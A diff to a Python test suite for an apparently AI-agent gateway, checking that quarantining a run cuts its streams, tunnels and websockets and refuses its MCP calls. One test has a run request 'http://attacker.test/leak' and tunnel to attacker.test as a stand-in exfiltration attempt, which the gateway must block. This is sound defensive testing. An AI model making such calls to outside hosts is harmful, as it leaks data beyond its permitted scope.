@@ -3,8 +3,11 @@
 from __future__ import annotations
 
 import asyncio
+import base64
 import contextlib
+import hashlib
 import json
+import ssl
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -13,6 +16,7 @@ import pytest
 from click.testing import CliRunner
 
 from gateway.cli import main
+from gateway.core.server import ForwardSettings, UnknownHosts
 from tests.gateway.harness import MANIFEST, Child, Serving, serving
 from tests.origin import Answer, Feed, Hang, Origin
 
@@ -73,7 +77,7 @@ async def test_no_call_leaves_after_severing_and_the_incident_tells_how_fast(tmp
         told = await quarantine(gateway, trajectory="bad", since=1)
         assert told["state"] == "in force"
         assert all(told["stages"][name]["problem"] is None for name in ("suspend", "revoke", "sever", "taint"))
-        assert told["stages"]["sever"]["ms"] < 100
+        assert told["stages"]["sever"]["ms"] < 1000  # how fast it is, loadtests/containment.py measures
         before = len(origin.requests)
         for method, path in (
             ("POST", "/pay/holds"),
@@ -112,14 +116,17 @@ async def test_a_read_and_a_stream_are_broken_off(tmp_path: Path) -> None:
         origin.on("GET /slow", Hang())
         origin.on("GET /stream", Answer(200, feed, framing="chunked"))
         flying = asyncio.create_task(gateway.agent.send("GET", "/plain/slow", run="bad"))
-        streaming = asyncio.create_task(gateway.agent.send("GET", "/plain/stream", run="bad"))
-        await wait_for(lambda: len(origin.requests) == 2)
+        reader, writer = await gateway.agent.open()
+        writer.write(gateway.agent.head("GET", "/plain/stream", [("Seawall-Trajectory", "bad")]))
         feed.send(b"first")
-        await asyncio.sleep(0.1)
+        assert (await reader.readuntil(b"first\r\n")).startswith(b"HTTP/1.1 200")
+        await wait_for(lambda: len(origin.requests) == 2)
         await quarantine(gateway, trajectory="bad")
-        answer, stream = await asyncio.gather(flying, streaming)
+        answer = await flying
         assert (answer.status, answer.code) == (423, "ERR_QUARANTINED")
-        assert (stream.status, stream.body, stream.is_truncated) == (200, b"first", True)
+        with contextlib.suppress(ConnectionResetError):
+            assert await asyncio.wait_for(reader.read(), 5) == b""  # no last chunk: it is seen to be cut
+        writer.close()
         for request in origin.requests:
             await asyncio.wait_for(request.gone.wait(), 5)
 
@@ -299,3 +306,131 @@ async def test_shadow_blocks_nothing_and_says_so(tmp_path: Path) -> None:
         await gateway.agent.send("PUT", "/files/files/a", b"text", run="bad")
         await quarantine(gateway, trajectory="bad")
         assert (await gateway.agent.send("GET", "/files/files/a", run="good")).status == 200
+        (told,) = (await gateway.operator.send("GET", "/api/v1/rules")).json["decisions"]
+        assert (told["rule"], told["effect"], told["operation"]) == ("(artifact)", "deny", "files.get")
+
+
+async def test_calling_an_undeclared_host_quarantines_the_run(tmp_path: Path) -> None:
+    """`forward.unknown_hosts: quarantine`: what a run has no business with betrays it."""
+    forward = ForwardSettings(unknown_hosts=UnknownHosts.QUARANTINE)
+    async with Origin() as origin, serving(tmp_path, origin.port, WORLD, forward=forward) as gateway:
+        assert (await gateway.agent.send("GET", "/plain/x", run="bad")).status == 200
+        refused = await gateway.agent.send("GET", "http://attacker.test/leak", run="bad")
+        assert (refused.status, refused.code) == (423, "ERR_QUARANTINED")
+        assert (await gateway.agent.send("GET", "/plain/x", run="bad")).code == "ERR_QUARANTINED"
+        assert (await gateway.agent.send("GET", "/nothing/x", run="good")).code == "ERR_UNKNOWN_TOOL"
+        tunnel = await gateway.agent.send("CONNECT", "attacker.test:443", headers=[("Seawall-Agent", "mallory")])
+        assert tunnel.code == "ERR_QUARANTINED"
+        for method, target in (("GET", "/plain/x"), ("CONNECT", "attacker.test:443")):
+            answer = await gateway.agent.send(method, target, headers=[("Seawall-Agent", "mallory")])
+            assert answer.code == "ERR_QUARANTINED"
+        told = (await gateway.operator.send("GET", "/api/v1/quarantine")).json["quarantines"]
+        assert [(one["trajectory"], one["agent"]) for one in told] == [("bad", None), (None, "mallory")]
+
+
+async def test_the_tunnels_of_a_quarantined_agent_are_cut(tmp_path: Path) -> None:
+    """Bytes in a blind tunnel are seen by nobody, so the whole of it goes."""
+    outward = ssl.MemoryBIO()
+    tls = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), outward, server_hostname="localhost")
+    with contextlib.suppress(ssl.SSLWantReadError):
+        tls.do_handshake()
+    hello = outward.read()
+
+    async def far_end(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        arrived.append(await reader.readexactly(len(hello)))
+        with contextlib.suppress(ConnectionResetError):
+            await reader.read()
+        over.append(b"")
+        writer.close()
+
+    arrived: list[bytes] = []
+    over: list[bytes] = []
+    server = await asyncio.start_server(far_end, "127.0.0.1", 0)
+    port = server.sockets[0].getsockname()[1]
+    forward = ForwardSettings(tunnel=(f"localhost:{port}",))
+    async with Origin() as origin, serving(tmp_path, origin.port, WORLD, forward=forward) as gateway:
+        reader, writer = await gateway.agent.open()
+        writer.write(f"CONNECT localhost:{port} HTTP/1.1\r\nHost: x\r\nSeawall-Agent: mallory\r\n\r\n".encode())
+        assert b" 200 " in await reader.readuntil(b"\r\n\r\n")
+        writer.write(hello)
+        await wait_for(lambda: arrived)
+        told = await quarantine(gateway, agent="mallory")
+        assert told["stages"]["sever"]["detail"] == "1 cut"
+        with contextlib.suppress(ConnectionResetError):
+            assert await asyncio.wait_for(reader.read(), 5) == b""
+        writer.close()
+        await wait_for(lambda: over)
+        assert (await gateway.operator.send("GET", "/api/v1/status")).json["tunnels"] == 0
+    server.close()
+
+
+async def test_the_websockets_of_a_quarantined_run_are_cut(tmp_path: Path) -> None:
+    key = "dGhlIHNhbXBsZSBub25jZQ=="  # RFC 6455 section 1.3
+    over = asyncio.Event()
+
+    async def far_end(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        head = await reader.readuntil(b"\r\n\r\n")
+        sent = next(line for line in head.split(b"\r\n") if line.lower().startswith(b"sec-websocket-key:"))
+        digest = hashlib.sha1(sent.partition(b":")[2].strip() + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11").digest()
+        writer.write(
+            b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: "
+            + base64.b64encode(digest) + b"\r\n\r\n\x81\x02hi"
+        )  # fmt: skip
+        with contextlib.suppress(ConnectionResetError):
+            await reader.read()
+        over.set()
+        writer.close()
+
+    server = await asyncio.start_server(far_end, "127.0.0.1", 0)
+    upstream = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
+    chat = f'  chat: {{upstream: "{upstream}", domain: saas, websocket: {{enabled: true}}}}'
+    text = WORLD.replace("gates:", f"{chat}\ngates:")
+    async with Origin() as origin, serving(tmp_path, origin.port, text) as gateway:
+        reader, writer = await gateway.agent.open()
+        fields = (
+            f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
+        )
+        writer.write(f"GET /chat/room HTTP/1.1\r\nHost: x\r\nSeawall-Trajectory: bad\r\n{fields}\r\n".encode())
+        assert b" 101 " in await reader.readuntil(b"\r\n\r\n")
+        assert await reader.readexactly(4) == b"\x81\x02hi"
+        told = await quarantine(gateway, trajectory="bad")
+        assert told["stages"]["sever"]["detail"] == "1 cut"
+        await asyncio.wait_for(over.wait(), 5)
+        with contextlib.suppress(ConnectionResetError):
+            assert await asyncio.wait_for(reader.read(), 5) == b""
+        writer.close()
+    server.close()
+
+
+async def test_mcp_messages_that_are_no_calls_are_refused_too(tmp_path: Path) -> None:
+    """A quarantined agent lists nothing and reads no resource: these go beside the pipeline."""
+    async with Origin() as origin, serving(tmp_path, origin.port, WORLD) as gateway:
+        hello = {
+            "jsonrpc": "2.0", "id": 1, "method": "initialize",
+            "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}},
+        }  # fmt: skip
+        headers = [("Accept", "application/json, text/event-stream"), ("Seawall-Agent", "mallory")]
+        opened = await gateway.agent.send("POST", "/seawall/mcp", hello, headers=headers)
+        assert "result" in opened.json
+        headers += [("Mcp-Session-Id", opened["mcp-session-id"]), ("MCP-Protocol-Version", "2025-11-25")]
+        await quarantine(gateway, agent="mallory")
+        for method in ("tools/list", "resources/read", "prompts/list", "initialize"):
+            message = {
+                **hello,
+                "method": method,
+                "params": hello["params"] if method == "initialize" else {"uri": "x:y"},
+            }
+            answer = await gateway.agent.send("POST", "/seawall/mcp", message, headers=headers)
+            assert answer.json["error"]["data"]["code"] == "ERR_QUARANTINED", (method, answer.body)
+        ping = await gateway.agent.send(
+            "POST", "/seawall/mcp", {**hello, "method": "ping", "params": {}}, headers=headers
+        )
+        assert ping.json["result"] == {}
+
+
+async def test_the_stream_of_what_is_contained_is_no_run(tmp_path: Path) -> None:
+    async with Origin() as origin, serving(tmp_path, origin.port, WORLD) as gateway:
+        await quarantine(gateway, agent="mallory")
+        assert (await gateway.operator.send("GET", "/api/v1/trajectories/~containment")).status == 404
+        assert (await gateway.agent.send("GET", "/seawall/v1/trajectories/~containment")).status == 404
+        assert (await gateway.operator.send("GET", "/api/v1/trajectories")).json["trajectories"] == []
